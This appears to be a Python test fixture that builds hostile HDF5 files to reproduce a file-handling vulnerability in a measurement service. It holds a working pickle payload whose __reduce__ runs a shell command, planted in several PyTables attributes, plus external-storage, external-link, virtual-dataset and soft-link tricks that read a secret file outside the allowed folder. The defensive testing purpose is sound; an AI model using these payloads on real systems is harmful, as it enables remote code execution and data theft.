"""Measurement files built to attack the service (the reproductions of issue 17),
made with h5py as an attacker would.

Each maker writes a file with a ``/acceleration`` table (so the routes get past
"no acceleration data") and an ``/embedded_files/x`` node where the attack is
an embedded file. ``marker`` is a file the payload would create if it ran;
``secret`` a file outside the measurement folder whose bytes must never come back.
"""

from __future__ import annotations

import os
import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

ROW = np.dtype([("counter", "u1"), ("timestamp", "u8"), ("x", "f4")])


class RunsCommand:
    """Unpickling this runs ``touch <marker>``."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch {self.marker}",))


def payload(marker: Path, protocol: int = 0) -> np.bytes_:
    """A pickle that runs a command, as an ASCII string PyTables would unpickle."""
    data = pickle.dumps(RunsCommand(marker), protocol=protocol)
    assert data.endswith(b".")
    return np.bytes_(data)


def _table(h5: h5py.File) -> h5py.Dataset:
    table = h5.create_dataset("acceleration", data=np.zeros(3, dtype=ROW))
    table.attrs["CLASS"] = np.bytes_(b"TABLE")
    table.attrs["VERSION"] = np.bytes_(b"2.7")
    table.attrs["TITLE"] = np.bytes_(b"Sensor Node Data")
    for index, name in enumerate(ROW.names or ()):
        table.attrs[f"FIELD_{index}_NAME"] = np.bytes_(name.encode())
    return table


def root_version(h5: h5py.File, marker: Path, secret: Path) -> None:
    h5.attrs["VERSION"] = payload(marker)  # read by tables.open_file
    _table(h5)


def field_fill(h5: h5py.File, marker: Path, secret: Path) -> None:
    _table(h5).attrs["FIELD_0_FILL"] = payload(marker, protocol=2)  # read with the table


def node_title(h5: h5py.File, marker: Path, secret: Path) -> None:
    _table(h5)
    group = h5.create_group("embedded_files")
    group.attrs["TITLE"] = payload(marker, protocol=4)  # read with the node
    group.create_dataset("x", data=np.frombuffer(b"hello", np.uint8))


def user_attribute(h5: h5py.File, marker: Path, secret: Path) -> None:
    _table(h5).attrs["pre_metadata"] = payload(marker)  # read through attrs


def external_storage(h5: h5py.File, marker: Path, secret: Path) -> None:
    _table(h5)
    size = secret.stat().st_size
    group = h5.create_group("embedded_files")
    group.create_dataset("x", shape=(size,), dtype="u1", external=[(str(secret), 0, size)])


def external_link(h5: h5py.File, marker: Path, secret: Path) -> None:
    _table(h5)
    h5.create_group("embedded_files")["x"] = h5py.ExternalLink(str(secret), "/data")


def virtual_dataset(h5: h5py.File, marker: Path, secret: Path) -> None:
    _table(h5)
    layout = h5py.VirtualLayout(shape=(4,), dtype="u1")
    layout[:] = h5py.VirtualSource(str(secret), "/data", shape=(4,))
    h5.create_group("embedded_files").create_virtual_dataset("x", layout)


def soft_link(h5: h5py.File, marker: Path, secret: Path) -> None:
    _table(h5)
    h5.create_group("embedded_files")["x"] = h5py.SoftLink(str(secret))


ATTACKS: dict[str, Callable[[h5py.File, Path, Path], None]] = {
    "root_version": root_version,
    "field_fill": field_fill,
    "node_title": node_title,
    "user_attribute": user_attribute,
    "external_storage": external_storage,
    "external_link": external_link,
    "virtual_dataset": virtual_dataset,
    "soft_link": soft_link,
}
SECRET = b"TOP-SECRET-4711 must never leave this file\n"


def make_secret(folder: Path) -> Path:
    """A file outside the measurement folder (raw bytes, for external storage)."""
    secret = folder / "secret.bin"
    secret.write_bytes(SECRET)
    return secret


def make_secret_hdf5(folder: Path) -> Path:
    """The same secret as an HDF5 file with ``/data`` (for links and virtual datasets)."""
    path = folder / "secret.hdf5"
    with h5py.File(path, "w") as h5:
        h5.create_dataset("data", data=np.frombuffer(SECRET, np.uint8))
    return path


def build(path: Path, attack: str, marker: Path, folder: Path) -> Path:
    """The file of ``attack`` at ``path``; its secret files are made in ``folder``."""
    secret = make_secret(folder) if attack == "external_storage" else make_secret_hdf5(folder)
    with h5py.File(path, "w") as h5:
        ATTACKS[attack](h5, marker, secret)
    return path
